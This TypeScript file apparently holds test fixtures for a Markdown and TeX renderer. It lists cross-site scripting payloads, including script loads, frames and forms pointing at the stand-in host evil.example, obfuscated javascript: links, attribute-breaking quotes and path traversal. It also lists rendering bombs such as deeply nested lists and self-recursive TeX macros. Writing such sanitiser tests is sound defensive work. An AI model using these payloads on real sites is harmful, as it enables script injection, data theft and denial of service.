// Markdown that tries to get out of being text, by what it tries.

export const ATTACKS: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script in a heading': '# <script src=//evil.example/x.js></script>',
  'an event handler': '<img src=x onerror=alert(1)>',
  'an SVG with a handler': '<svg/onload=alert(1)>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a style': '<style>body{display:none}</style><p style="position:fixed">',
  'a form': '<form action="https://evil.example"><button>ok</button></form>',
  'a base': '<base href="https://evil.example/"><meta http-equiv=refresh content=0>',
  'a comment': '<!-- --><![CDATA[<b>]]><?php ?>',
  'a javascript link': '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>',
  'a disguised javascript link':
    '[x](java&#x73;cript:alert(1)) [y](&#106;avascript:alert(1)) [z](\u0001javascript:alert(1))',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)',
  'a link by reference': '[x][1]\n\n[1]: javascript:alert(1) "onmouseover=alert(1)"',
  'a quote in a link':
    '[x](https://e.example/"onmouseover="alert(1)) [y](https://e.example "a\\" onclick=\\"alert(1)")',
  'a picture from elsewhere': '![x](https://evil.example/pixel.png) ![y](//evil.example/pixel.png)',
  'a picture of data': '![x](data:image/svg+xml,<svg/onload=alert(1)>) ![y](data:image/png;base64,AAAA)',
  'a picture outside of the package':
    '![x](../../../secret.png) ![y](/etc/x.png) ![z](..%2f..%2fx.png) ![w](..\\x.png)',
  'a quote in a picture': '![" onerror="alert(1)](a.png "\\" onload=\\"alert(1)")',
  'a link around a picture': '[![x](https://evil.example/a.png)](javascript:alert(1))',
  'code that closes itself': '```js\n</code></pre><script>alert(1)</script>\n```\n\n    </pre><b>',
  'a language that closes the tag': '```js"><script>alert(1)</script>\nx\n```\n\n```"onload="x\ny\n```',
  'a language of the prototype': '```__proto__\nx\n```\n\n```constructor\ny\n```',
  'a table with a style': '| a |\n|:--|\n| <td style="x" onclick=alert(1)> |',
  'TeX: a link': '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  'TeX: a picture': '$\\includegraphics{https://evil.example/a.png}$',
  'TeX: HTML': '$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{a}{x}$ $\\htmlId{a}{x}$ $\\htmlData{a=b}{x}$',
  'TeX: text': '$\\text{<script>alert(1)</script>}$ $<img src=x onerror=alert(1)>$',
  'TeX: a colour': '$\\color{red;position:fixed}x$ $\\textcolor{"onclick="alert(1)}{x}$ $\\colorbox{#fff}{x}$',
  'TeX: an error': '$\\frac{<script>alert(1)</script>$ $\\nothing{"onclick=alert(1)}$',
  'TeX: a style': '$\\pmb{x}$ $\\boldsymbol{x}$ $\\fbox{x}$',
};

/** Text that costs much more to render than to write. */
export const BOMBS: Readonly<Record<string, string>> = {
  'lists nested ten thousand deep': `${'- '.repeat(10_000)}x`,
  'quotes nested ten thousand deep': `${'>'.repeat(10_000)}x`,
  'lists indented ever deeper': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'a table that fills up': `|${'a|'.repeat(1000)}\n|${'-|'.repeat(1000)}\n${'|x\n'.repeat(10_000)}`,
  'a reference used everywhere': `[a]: http://e.example/${'z'.repeat(90_000)}\n\n${'[a] '.repeat(25_000)}`,
  'emphasis without end': '*a _b '.repeat(20_000),
  'brackets without end': '['.repeat(30_000),
  'backticks of every length': Array.from({ length: 400 }, (_, count) => '`'.repeat(count)).join(' '),
  'an endless macro': '$\\def\\a{\\a\\a}\\a$ $\\gdef\\b{\\b\\b}$ $\\b$',
  'a macro that doubles': `$\\def\\a#1{#1#1#1#1#1#1#1#1}${'\\a{'.repeat(12)}x${'}'.repeat(12)}$`,
  'formulas nested deeply': `$${'{'.repeat(1400)}x${'}'.repeat(1400)}$ $${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}$`,
  'formulas of giant size': '$\\rule{99999em}{99999em}\\kern9999em\\hspace{9999em}x$',
  'dollars without end': '$a '.repeat(40_000),
  'code nested deeply': `\`\`\`js\n${'`${'.repeat(4000)}\n\`\`\`\n\n\`\`\`cpp\n${'template<'.repeat(2000)}\n\`\`\``,
  'one long line of code': `\`\`\`ts\nlet x = ${'(1 + '.repeat(5000)}\n\`\`\``,
};
